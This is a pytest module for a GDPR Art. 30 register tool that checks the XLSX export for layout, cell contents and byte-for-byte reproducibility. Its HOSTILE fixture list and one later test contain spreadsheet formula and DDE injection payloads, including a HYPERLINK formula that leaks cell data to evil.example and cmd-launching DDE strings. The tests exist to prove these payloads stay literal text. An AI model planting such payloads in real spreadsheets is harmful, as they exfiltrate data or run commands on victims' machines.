"""XLSX register: read the workbook back with openpyxl and zipfile and check what an auditor would see.

The register used here is written to tmp_path by this module (the render conftest's
register belongs to the PDF tests): one activity with every fact stated, one with
almost nothing, hostile text in every kind of field, and a controller that is also
a processor.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from ropa import __version__
from ropa.check.findings import Report
from ropa.model.facts import parties
from ropa.model.register import Register
from ropa.render.tables.workbook import build_tables
from ropa.render.text import NOT_STATED
from ropa.render.xlsx import MAX_CELL_CHARS, TRUNCATED, cell_text, render_register_xlsx

SHEETS = [
    "About",
    "Activities",
    "Data categories",
    "Recipients",
    "Providers",
    "Sub-processors",
    "Transfers",
    "Retention",
    "Art. 30(2) processor",
    "Findings",
]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "=1+1",
]
"""Formula, DDE and error-value look-alikes that must stay literal text."""

ORGANISATION: dict[str, Any] = {
    "legal_name": "Nordlicht Commerce GmbH",
    "trading_name": "Nordlicht",
    "registration_number": "HRB 123456",
    "country": "DE",
    "address": {"street": "Friedrichstraße 100", "postal_code": "10117", "city": "Berlin", "country": "DE"},
    "contact": {"name": "Privacy team", "email": "privacy@nordlicht.example"},
    "dpo": {"designated": True, "name": "Dr. Anna Weber", "position": "DPO", "email": "dpo@nordlicht.example"},
    "lead_supervisory_authority": "Berliner Beauftragte für Datenschutz",
    "roles": ["controller", "processor"],
    "employees": 320,
    "record": {"version": "2026.2", "date": "2026-11-01", "title": "Record of processing activities - SMS"},
    "processor_activities": [
        {
            "id": "white-label",
            "controller": "Kunde AG",
            "controller_contact": "privacy@kunde.example",
            "categories_of_processing": ["SMS delivery on behalf of the controller"],
            "transfers": [{"country": "IN", "recipient": "Routing partner", "mechanism": {"type": "scc_2021_914"}}],
            "security_measures": [{"kind": "transmission", "measure": "TLS 1.3"}],
            "last_reviewed": "2026-09-01",
        }
    ],
}

FULL_ACTIVITY: dict[str, Any] = {
    "id": "sms-otp",
    "name": "One-time passcodes",
    "description": "Login codes sent by SMS.",
    "purposes": [
        {"description": "Deliver one-time login passcodes to customers by SMS", "lawful_basis": "6.1.b"},
        {
            "description": "Detect fraudulent login attempts by SMS pumping",
            "lawful_basis": "6.1.f",
            "legitimate_interest": "Fraud prevention",
            "lia": {"ref": "LIA-2026-04", "date": "2026-04-01"},
        },
    ],
    "data_subjects": [
        {"name": "Customers with an account"},
        {"name": "Minors with a family account", "children": True},
    ],
    "data_categories": [
        {
            "id": "phone",
            "name": "Mobile phone number",
            "retention": {
                "kind": "duration",
                "duration": "P30D",
                "trigger_event": "delivery",
                "end_action": "delete",
                "statement": "kept for 30 days",
                "source": "DPA Annex 1",
            },
        },
        {"id": "rx", "name": "Pharmacy order status", "special": "health", "art9_condition": "9.2.a"},
    ],
    "data_source": "The customer at sign-up",
    "recipients": [
        {"provider": "acme", "role": "processor", "country": "US", "data_shared": ["phone number", "message text"]},
        {"category": "Customer support staff", "role": "internal"},
    ],
    "transfers": [
        {
            "country": "US",
            "recipient": "acme",
            "frequency": "continuous",
            "data_categories": ["phone"],
            "mechanism": {"type": "scc_2021_914", "modules": [2], "clause9_option": "general"},
            "source": "DPA §9",
        }
    ],
    "retention": {"duration": "P1Y", "trigger_event": "account closure"},
    "security_measures": [{"kind": "minimisation", "measure": "Only the phone number leaves our systems"}],
    "dpia_required": True,
    "dpia": {"ref": "DPIA-7", "date": "2026-03-01", "location": "GRC tool"},
    "owner": "Head of Security",
    "last_reviewed": "2026-10-01",
    "source": "Acme privacy policy §2",
}

ACME: dict[str, Any] = {
    "id": "acme",
    "legal_name": "Acme Messaging Inc.",
    "country": "US",
    "role": "processor",
    "service": "CPaaS SMS delivery",
    "address": {"street": "1 Main Street", "city": "Miami", "postal_code": "33172", "country": "US"},
    "contacts": [{"name": "Legal", "email": "legal@acme.example"}],
    "contract": {
        "title": "Acme Data Processing Addendum",
        "version": "3.1",
        "signed": "2026-02-01",
        "form": "electronic",
        "art28": {
            "a": {"covered": True, "section": "§2.1"},
            "c": {"covered": False, "note": "Refers to a security page only"},
        },
    },
    "data_locations": ["US", "DE"],
    "toms": [{"kind": "encryption", "measure": "AES-256 for stored messages"}],
    "sub_processor_authorisation": {"type": "general", "notice_period": "P30D", "objection_channel": "e-mail"},
    "sub_processors": [
        {
            "id": "routing",
            "name": "Routing Pvt Ltd",
            "country": "IN",
            "service": "SMS routing",
            "mechanism": {"type": "scc_2021_914", "modules": [3]},
        }
    ],
    "activities": [FULL_ACTIVITY, {"id": "bare", "name": "Bare activity"}],
}

HOSTILE_PROVIDER: dict[str, Any] = {
    "id": "hostile",
    "legal_name": HOSTILE[0],
    "trading_name": HOSTILE[8],
    "country": "DE",
    "role": "processor",
    "service": HOSTILE[1],
    "activities": [
        {
            "id": "evil",
            "name": HOSTILE[2],
            "description": HOSTILE[3],
            "purposes": [{"description": HOSTILE[4], "stated_basis": "=2+2"}],
            "data_source": HOSTILE[5],
            "data_subjects": [{"name": HOSTILE[6]}],
            "data_categories": [{"id": "x", "name": HOSTILE[7], "retention": {"statement": "@kept forever"}}],
            "owner": "line one\r\nline two\rline three",
            "recipients": [],
        }
    ],
}

EXPECTED_ACTIVITY_ROW: dict[str, Any] = {
    "Provider id": "acme",
    "Provider": "Acme Messaging Inc.",
    "Provider role": "Processor",
    "Activity id": "sms-otp",
    "Activity": "One-time passcodes",
    "Description": "Login codes sent by SMS.",
    "Purpose of processing": (
        "1. Deliver one-time login passcodes to customers by SMS\n2. Detect fraudulent login attempts by SMS pumping"
    ),
    "Article 6 lawful basis for processing personal data": (
        "1. Art. 6(1)(b) contract\n2. Art. 6(1)(f) legitimate interests"
    ),
    "Legitimate interests and LIA": "2. Fraud prevention; LIA: LIA-2026-04, dated 2026-04-01",
    "Consent: how given and withdrawn": "Not applicable",
    "Legal provision (Art. 6(3))": "Not applicable",
    "Type of purpose": "None recorded",
    "Categories of individuals": ("Customers with an account\nMinors with a family account (includes children)"),
    # Children are concerned: age range and notice are expected, and the LIA must weigh their interests.
    "Children: ages, consent, notice (Art. 8, 12(1))": (
        "Ages: Not recorded\nNotice for children (Art. 12(1)): Not recorded\n"
        "Children in the LIA (Art. 6(1)(f)): Not recorded"
    ),
    "Categories of personal data": "Mobile phone number\nPharmacy order status",
    "Article 9 condition for processing special category data": (
        "Pharmacy order status: Data concerning health; Art. 9(2)(a); safeguards: Not recorded"
    ),
    "Criminal offence data (Art. 10)": "None",
    "The source of the personal data (if applicable)": "The customer at sign-up",
    "Categories of recipients": (
        "Acme Messaging Inc. (acme) [Processor, United States (US)]\nCustomer support staff [Internal]"
    ),
    "Link to contract with processor": "Acme Data Processing Addendum (version 3.1)",
    "Location of personal data": "United States (US)\nGermany (DE)",
    "Transfers: country, mechanism, SCC module (Art. 30(1)(e))": (
        "United States (US), to Acme Messaging Inc. (acme): Standard contractual clauses, Decision (EU) 2021/914 "
        "(Art. 46(2)(c)); "
        "Module Two (controller to processor); Clause 9(a) general authorisation"
    ),
    "Retention schedule (if possible)": (
        "Mobile phone number: 30 days (P30D) from delivery; Then deleted\n"
        "Pharmacy order status: 1 year (P1Y) from account closure"
    ),
    "General description of technical and organisational security measures (if possible)": (
        "Data minimisation: Only the phone number leaves our systems\n"
        "Provider: Pseudonymisation and encryption of personal data: AES-256 for stored messages"
    ),
    "Data Protection Impact Assessment required?": "Required",
    "Link to Data Protection Impact Assessment": "DPIA-7, dated 2026-03-01, kept at GRC tool",
    "Frequency": "None recorded",
    "Risk to data subjects": "None recorded",
    "Art. 30(5) derogation": "Not claimed",
    "Owner": "Head of Security",
    "Last reviewed": dt.datetime(2026, 10, 1),  # a date cell (openpyxl reads dates back as datetimes)
    "Sources": "Acme privacy policy §2\nDPA Annex 1\nDPA §9",
}


def _files() -> tuple[dict[str, Any], dict[str, dict[str, Any]]]:
    providers = {"acme": ACME, "hostile": HOSTILE_PROVIDER}
    return copy.deepcopy(ORGANISATION), copy.deepcopy(providers)


def _load(root: Path) -> tuple[Register, Report]:
    from ropa.pipeline import load_and_check_for_documents

    return load_and_check_for_documents(root)


@pytest.fixture
def register(make_register: Callable[..., Path]) -> tuple[Register, Report]:
    """The register of this module, loaded and checked as ``ropa build`` does."""
    organisation, providers = _files()
    return _load(make_register(providers, organisation))


@pytest.fixture
def rendered(register: tuple[Register, Report]) -> bytes:
    """The workbook of :func:`register`."""
    return render_register_xlsx(*register)


@pytest.fixture
def workbook(rendered: bytes) -> Workbook:
    """The rendered workbook, read back."""
    return load_workbook(io.BytesIO(rendered))


def records(ws: Worksheet) -> list[dict[str, Any]]:
    """Every data row as header -> value."""
    rows = list(ws.iter_rows(values_only=True))
    headers = [str(h) for h in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def only(rows: list[dict[str, Any]], **match: str) -> list[dict[str, Any]]:
    """The rows whose columns equal ``match``."""
    return [r for r in rows if all(r[k] == v for k, v in match.items())]


def sheet_xml(data: bytes) -> dict[str, str]:
    """Raw XML of every worksheet in the package."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}


# ---------------------------------------------------------------------------
# Structure and layout
# ---------------------------------------------------------------------------


def test_every_sheet_is_there_in_order_with_its_headers(workbook: Workbook, register: tuple[Register, Report]) -> None:
    assert workbook.sheetnames == SHEETS
    expected = {
        t.name: t.headers
        for t in build_tables(*register, generated_by="x", document_date=register[0].organisation.record.date)
    }
    for ws in workbook.worksheets:
        header = [c.value for c in ws[1]]
        assert header == list(expected[ws.title]), ws.title
        assert all(isinstance(h, str) and h for h in header)
        assert all(c.font.b for c in ws[1]), f"{ws.title}: header not bold"
    findings = [c.value for c in workbook["Findings"][1]]
    for column in ("Rule", "Severity", "Message", "File", "Line", "Provider", "Activity"):
        assert column in findings
    providers = [c.value for c in workbook["Providers"][1]]
    for point in "abcdefgh":
        assert any(str(h).startswith(f"Art. 28(3)({point})") for h in providers), point


def test_every_sheet_is_laid_out_for_screen_and_print(workbook: Workbook) -> None:
    for ws in workbook.worksheets:
        last = get_column_letter(ws.max_column)
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}", ws.title
        assert ws.print_title_rows == "$1:$1", ws.title
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.paperSize == 9  # A4
        fit = ws.sheet_properties.pageSetUpPr
        assert fit is None or not fit.fitToPage, ws.title  # fitting to one page wide shrinks text to nothing
        assert 70 <= ws.page_setup.scale <= 100, ws.title
        for index in range(1, ws.max_column + 1):
            width = ws.column_dimensions[get_column_letter(index)].width
            assert 6 <= width <= 80, (ws.title, index, width)
        for row in ws.iter_rows(min_row=1, max_row=min(ws.max_row, 3)):
            for cell in row:
                assert cell.alignment.wrap_text and cell.alignment.vertical == "top", (ws.title, cell.coordinate)


def test_document_properties_are_set_and_dated_by_the_record(workbook: Workbook) -> None:
    props = workbook.properties
    assert props.title == "Record of processing activities - SMS"
    assert props.subject == "Record of processing activities (GDPR Art. 30)"
    assert props.creator == f"ropa {__version__}"
    assert props.created.isoformat() == props.modified.isoformat() == "2026-11-01T00:00:00"


# ---------------------------------------------------------------------------
# Content, cell by cell
# ---------------------------------------------------------------------------


def test_one_whole_activity_reads_back_cell_by_cell(workbook: Workbook, register: tuple[Register, Report]) -> None:
    [row] = only(records(workbook["Activities"]), **{"Activity id": "sms-otp"})
    findings = row.pop("Open findings")
    assert row == EXPECTED_ACTIVITY_ROW
    own = [f for f in register[1].findings if f.activity == "sms-otp"]
    assert (findings == "None") == (not own)


def test_data_categories_carry_retention_per_category(workbook: Workbook) -> None:
    rows = only(records(workbook["Data categories"]), **{"Activity id": "sms-otp"})
    assert [r["Category id"] for r in rows] == ["phone", "rx"]
    phone, rx = rows
    assert phone == {
        "Provider id": "acme",
        "Activity id": "sms-otp",
        "Activity": "One-time passcodes",
        "Category id": "phone",
        "Data category": "Mobile phone number",
        "Special category (Art. 9(1))": "No",
        "Art. 9(2) condition": "Not applicable",
        "Art. 9 law or agreement": "Not applicable",
        "Criminal offence data (Art. 10)": "No",
        "Art. 10 authority": "Not applicable",
        "Restrictions or safeguards (sensitive data)": "Not applicable",
        "Retention duration": "30 days (P30D)",
        "Retention trigger": "delivery",
        "Retention criteria": NOT_STATED,
        "Retention statement (source's words)": "kept for 30 days",
        "Retention (summary)": "30 days (P30D) from delivery; Then deleted",
        "Retention set on": "Data category",
        "Sources": "DPA Annex 1",
    }
    assert rx["Special category (Art. 9(1))"] == "Data concerning health"
    assert rx["Art. 9(2) condition"] == "Art. 9(2)(a)"
    assert rx["Art. 9 law or agreement"] == NOT_STATED
    assert rx["Restrictions or safeguards (sensitive data)"] == NOT_STATED
    assert rx["Retention duration"] == "1 year (P1Y)"
    assert rx["Retention set on"] == "Activity (applies to categories without their own)"

    retention = only(
        records(workbook["Retention"]), **{"Activity id": "sms-otp", "Data category": "Mobile phone number"}
    )
    assert len(retention) == 1
    assert retention[0]["Kind"] == "duration"
    assert retention[0]["At the end"] == "deleted"
    assert retention[0]["Source"] == "DPA Annex 1"


def test_recipients_transfers_and_sub_processors(workbook: Workbook) -> None:
    recipients = only(records(workbook["Recipients"]), **{"Activity id": "sms-otp"})
    assert [(r["Recipient"], r["Role"], r["Country"], r["Data shared"]) for r in recipients] == [
        ("Acme Messaging Inc. (acme)", "Processor", "United States (US)", "phone number\nmessage text"),
        ("Customer support staff", "Internal", NOT_STATED, NOT_STATED),
    ]
    [stated_none] = only(records(workbook["Recipients"]), **{"Activity id": "evil"})
    assert stated_none["Recipient"] == "No recipients (stated)"
    [missing] = only(records(workbook["Recipients"]), **{"Activity id": "bare"})
    assert missing["Recipient"] == NOT_STATED

    transfers = records(workbook["Transfers"])
    [otp] = only(transfers, **{"Activity id": "sms-otp"})
    assert otp["Record"] == "Art. 30(1)"
    assert otp["Destination"] == "United States (US)"
    assert otp["Recipient"] == "Acme Messaging Inc. (acme)"
    assert otp["SCC module"] == "Module Two (controller to processor)"
    assert otp["Clause 9(a) option"] == "general"
    assert otp["Data categories"] == "Mobile phone number"
    assert otp["Frequency"] == "continuous"
    assert otp["Transfer impact assessment"] == NOT_STATED
    [processor] = only(transfers, **{"Record": "Art. 30(2)"})
    assert processor["Destination"] == "India (IN)"
    assert processor["SCC module"] == NOT_STATED  # SCCs without a module are a gap

    [sub] = records(workbook["Sub-processors"])
    assert (sub["Provider id"], sub["Sub-processor id"], sub["Sub-processor"]) == ("acme", "routing", "Routing Pvt Ltd")
    assert sub["Country"] == "India (IN)"
    assert sub["Transfer mechanism"].endswith("Module Three (processor to processor)")


def test_providers_show_contract_and_art28_coverage(workbook: Workbook) -> None:
    [acme] = only(records(workbook["Providers"]), **{"Provider id": "acme"})
    assert acme["Contract / DPA (Art. 28(3))"] == "Acme Data Processing Addendum (version 3.1)"
    assert acme["Signed"] == dt.datetime(2026, 2, 1)
    assert acme["Art. 28(3)(a) instructions"] == "Covered (§2.1)"
    assert acme["Art. 28(3)(b) confidentiality"] == NOT_STATED
    assert acme["Art. 28(3)(c) security"] == "Not covered: Refers to a security page only"
    assert acme["Sub-processor authorisation (Art. 28(2))"] == (
        "General authorisation; notice 30 days (P30D); objections: e-mail"
    )
    assert acme["Sub-processors"] == 1
    assert acme["Activities"] == 2
    [hostile] = only(records(workbook["Providers"]), **{"Provider id": "hostile"})
    assert hostile["Contract / DPA (Art. 28(3))"] == NOT_STATED
    assert hostile["Art. 28(3)(h) audits"] == NOT_STATED


def test_missing_facts_read_not_stated_never_blank(workbook: Workbook) -> None:
    [bare] = only(records(workbook["Activities"]), **{"Activity id": "bare"})
    for column in (
        "Description",
        "Purpose of processing",
        "Article 6 lawful basis for processing personal data",
        "Categories of individuals",
        "Categories of personal data",
        "Article 9 condition for processing special category data",
        "Criminal offence data (Art. 10)",
        "Categories of recipients",
        "Retention schedule (if possible)",
        "Data Protection Impact Assessment required?",
        "Link to Data Protection Impact Assessment",
        "Owner",
        "Last reviewed",
        "Sources",
    ):
        assert bare[column] == NOT_STATED, column
    measures = bare["General description of technical and organisational security measures (if possible)"]
    assert measures.startswith("Provider: ")
    for name in SHEETS:
        if name == "Findings":
            continue  # waiver columns are empty for open findings on purpose
        for row in records(workbook[name]):
            assert all(v is not None and v != "" for v in row.values()), (name, row)
    [category] = only(records(workbook["Data categories"]), **{"Activity id": "bare"})
    assert category["Data category"] == NOT_STATED


def test_about_sheet_summarises_organisation_record_and_validation(
    workbook: Workbook, register: tuple[Register, Report]
) -> None:
    about = {r["Item"]: r["Value"] for r in records(workbook["About"])}
    summary = register[1].summary()
    assert about["Organisation (controller)"] == "Nordlicht Commerce GmbH"
    assert about["Record version"] == "2026.2"
    assert about["Record date"] == dt.datetime(2026, 11, 1)
    assert about["Acts as"] == "Controller and processor"
    assert about["Data protection officer"] == "Dr. Anna Weber, DPO\ndpo@nordlicht.example"
    assert about["Generated by"] == f"ropa {__version__}"
    assert about["Open findings: errors"] == summary["error"]
    assert about["Open findings: warnings"] == summary["warning"]
    assert about["Open findings: info"] == summary["info"]
    assert about["Processing activities (Art. 30(1))"] == 3
    assert about["Sheet: Findings"] == "One row per validation finding, open or waived"


def test_processor_record_sheet_only_when_the_organisation_is_a_processor(
    workbook: Workbook, make_register: Callable[..., Path]
) -> None:
    [row] = records(workbook["Art. 30(2) processor"])
    assert row["Controller (Art. 30(2)(a))"] == "Kunde AG"
    assert row["Categories of processing (Art. 30(2)(b))"] == "SMS delivery on behalf of the controller"
    assert row["Security measures (Art. 30(2)(d))"] == "Protection of data during transmission: TLS 1.3"

    organisation, providers = _files()
    organisation["roles"] = ["controller"]
    del organisation["processor_activities"]
    controller_only = load_workbook(io.BytesIO(render_register_xlsx(*_load(make_register(providers, organisation)))))
    assert "Art. 30(2) processor" not in controller_only.sheetnames


def test_findings_sheet_lists_every_finding_with_its_location(
    workbook: Workbook, register: tuple[Register, Report]
) -> None:
    report = register[1]
    assert report.findings, "the register is meant to have findings (the bare activity)"
    rows = records(workbook["Findings"])
    assert len(rows) == len(report.findings) + len(report.waived)
    for finding, row in zip(report.findings, rows, strict=False):
        assert row["Rule"] == finding.rule
        assert row["Severity"] == finding.severity.value
        assert row["Message"] == finding.message
        assert row["File"] == finding.file
        assert row["Line"] == finding.line and isinstance(row["Line"], int)
        assert row["Provider"] == (finding.provider or "Not applicable")
        assert row["Activity"] == (finding.activity or "Not applicable")
        assert row["Status"] == "Open"
    bare = only(rows, Activity="bare")
    assert bare and all(r["File"] == "providers/acme.yaml" for r in bare)


def test_tables_past_the_row_limit_continue_on_numbered_sheets(
    workbook: Workbook, register: tuple[Register, Report], monkeypatch: pytest.MonkeyPatch
) -> None:
    import ropa.render.xlsx as xlsx

    whole = records(workbook["Data categories"])
    assert len(whole) == 4
    monkeypatch.setattr(xlsx, "MAX_DATA_ROWS", 2)
    split = load_workbook(io.BytesIO(render_register_xlsx(*register)))
    parts = [n for n in split.sheetnames if n.startswith("Data categories")]
    assert parts == ["Data categories", "Data categories (2)"]  # exactly full: no empty third sheet
    assert records(split[parts[0]]) + records(split[parts[1]]) == whole
    for name in parts:
        last = get_column_letter(len(records(split[name])[0]))
        assert split[name].freeze_panes == "A2" and split[name].auto_filter.ref == f"A1:{last}{split[name].max_row}"


# ---------------------------------------------------------------------------
# Hostile text
# ---------------------------------------------------------------------------


def _with_activity_text(register: Register, **update: str) -> Register:
    """The register with fields of the 'evil' activity replaced without validation (keeps leading tabs)."""
    providers = []
    for provider in register.providers:
        if provider.id == "hostile":
            activity = provider.activities[0].model_copy(update=update)
            provider = provider.model_copy(update={"activities": [activity]})
        providers.append(provider)
    return Register(register.organisation, providers)


def test_formula_dde_and_error_lookalikes_stay_literal_text(
    rendered: bytes, workbook: Workbook, register: tuple[Register, Report]
) -> None:
    seen: dict[str, tuple[str, Any]] = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen.setdefault(cell.value, (ws.title, cell.coordinate))
                else:
                    assert cell.data_type in ("n", "d"), (ws.title, cell.coordinate, cell.data_type)
    for text in HOSTILE:
        assert text in seen, f"{text!r} was not kept verbatim in any cell"
    assert "line one\r\nline two\rline three" in seen, "carriage returns were not kept"
    for name, xml in sheet_xml(rendered).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert not re.search(r'\bt="(e|str)"', xml), name


def test_leading_tab_and_carriage_return_stay_literal(register: tuple[Register, Report]) -> None:
    evil = {"name": "\t=1+2", "owner": "\r=cmd|' /C calc'!A0", "description": "\r\n@SUM(A1)"}
    data = render_register_xlsx(_with_activity_text(register[0], **evil), register[1])
    [row] = only(records(load_workbook(io.BytesIO(data))["Activities"]), **{"Activity id": "evil"})
    ws = load_workbook(io.BytesIO(data))["Activities"]
    headers = [c.value for c in ws[1]]
    cells = {c.value: c for r in ws.iter_rows(min_row=2) for c in r if c.value is not None}
    for column, value in (("Activity", evil["name"]), ("Owner", evil["owner"]), ("Description", evil["description"])):
        assert row[column] == value
        assert cells[value].data_type == "s"
        assert headers[cells[value].column - 1] == column
    for xml in sheet_xml(data).values():
        assert "<f>" not in xml and "\r" not in xml


def test_control_characters_and_escape_lookalikes_survive(register: tuple[Register, Report]) -> None:
    data = render_register_xlsx(_with_activity_text(register[0], name="bell\x07 and _x0041_"), register[1])
    xml = sheet_xml(data)["xl/worksheets/sheet2.xml"]
    assert "bell_x0007_ and _x005F_x0041_" in xml  # decoded by spreadsheet programs to the original text
    assert "\x07" not in xml
    load_workbook(io.BytesIO(data))  # still a valid package


def test_characters_xml_cannot_carry_become_escapes(register: tuple[Register, Report]) -> None:
    data = render_register_xlsx(_with_activity_text(register[0], name="a\ufffeb\ud800c\uffff"), register[1])
    xml = sheet_xml(data)["xl/worksheets/sheet2.xml"]
    assert "a_xFFFE_b_xD800_c_xFFFF_" in xml
    load_workbook(io.BytesIO(data))


TRICKY: list[Any] = [
    *HOSTILE,
    "Not recorded",
    "",
    None,
    0,
    7,
    2**60,
    True,
    " leading space",
    "trailing newline\n",
    "\ttab",
    "line one\r\nline two\rline three",
    "<b>bold</b> &amp; a > b",
    "quote \"double\" and 'single'",
    "Straße, Ελληνικά, 中文, \U0001f600",
    "\u00a0no-break spaces\u00a0",
    "next line\x85",
    "bell\x07 and _x0041_",
    "x" * (MAX_CELL_CHARS + 5),
]
"""Values whose cell XML must be exactly what openpyxl itself would write."""

DATES = [dt.date(2026, 1, 1), dt.date(1900, 3, 1), dt.date(9999, 12, 31)]
"""Dates, written in the date format as openpyxl writes them: day numbers."""


def test_rows_are_serialised_exactly_as_openpyxl_would_write_them() -> None:
    """The row writer replaces openpyxl's per-cell writer; the bytes must not tell them apart."""
    from openpyxl import Workbook as NewWorkbook
    from openpyxl.cell import WriteOnlyCell

    from ropa.render.xlsx import BODY_STYLE, DATE_STYLE, HEADER_STYLE, _add_styles, _keep_carriage_returns, _RowWriter

    wb = NewWorkbook(write_only=True)
    styles = _add_styles(wb)
    header, body = styles.header, styles.body
    ws = wb.create_sheet("Reference")
    for style, name, values in (
        (header, HEADER_STYLE, ["Item", "Value"]),
        (body, BODY_STYLE, TRICKY),
        (body, BODY_STYLE, TRICKY),
        (styles.date, DATE_STYLE, DATES),
    ):
        cells = []
        for value in values:
            if isinstance(value, str) and value:
                cell = WriteOnlyCell(ws, value=cell_text(value))
                cell.data_type = "s"  # as the writer before this one did: text, never a formula
            else:
                cell = WriteOnlyCell(ws, value=None if value == "" else value)
            cell.style = name
            assert cell.style_id == style
            cells.append(cell)
        ws.append(cells)
    raw = io.BytesIO()
    wb.save(raw)
    with zipfile.ZipFile(raw) as z:
        reference = _keep_carriage_returns(z.read("xl/worksheets/sheet1.xml"))
    expected = reference.split(b"<sheetData>")[1].split(b"</sheetData>")[0]

    writer = _RowWriter()
    rows = [
        writer.row(1, ["Item", "Value"], header),
        writer.row(2, TRICKY, body),
        writer.row(3, TRICKY, body),
        writer.row(4, DATES, styles.date, styles.date),
    ]
    assert "".join(rows).encode("ascii", "xmlcharrefreplace") == expected


def test_cell_text_truncates_at_excels_limit() -> None:
    long = "x" * (MAX_CELL_CHARS + 10)
    out = cell_text(long)
    assert len(out) == MAX_CELL_CHARS and out.endswith(TRUNCATED)
    assert cell_text("=A1") == "=A1"


# ---------------------------------------------------------------------------
# Reproducibility
# ---------------------------------------------------------------------------


def test_same_input_gives_same_bytes(rendered: bytes, register: tuple[Register, Report]) -> None:
    again = render_register_xlsx(*register)
    assert hashlib.sha256(again).hexdigest() == hashlib.sha256(rendered).hexdigest()
    with zipfile.ZipFile(io.BytesIO(rendered)) as z:
        names = z.namelist()
        assert names[0] == "[Content_Types].xml" and names[1:] == sorted(names[1:])
        assert {i.date_time for i in z.infolist()} == {(2026, 11, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert core.count("2026-11-01T00:00:00Z") == 2
    assert load_workbook(io.BytesIO(again)).sheetnames == SHEETS


def test_source_date_epoch_sets_every_date(register: tuple[Register, Report], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # 2023-11-14T22:13:20Z
    first = render_register_xlsx(*register)
    assert render_register_xlsx(*register) == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(2023, 11, 14, 22, 13, 20)}
        assert "2023-11-14T22:13:20Z" in z.read("docProps/core.xml").decode()
    props = load_workbook(io.BytesIO(first)).properties
    assert props.modified.isoformat() == "2023-11-14T22:13:20"


# ---------------------------------------------------------------------------
# The bundled example
# ---------------------------------------------------------------------------


def test_example_register_lists_every_provider_and_activity(example_dir: Path) -> None:
    register, report = _load(example_dir)
    wb = load_workbook(io.BytesIO(render_register_xlsx(register, report)))
    providers = {r["Provider id"] for r in records(wb["Providers"])}
    activities = {(r["Provider id"], r["Activity id"]) for r in records(wb["Activities"])}
    assert providers == {p.id for p in register.providers}
    refs = {e.activity.id: "\n".join(p.ref for p in parties(register, e)) or "In-house" for e in register.activities()}
    assert activities == {(ref, activity) for activity, ref in refs.items()}
    assert len(records(wb["Findings"])) == len(report.findings) + len(report.waived)
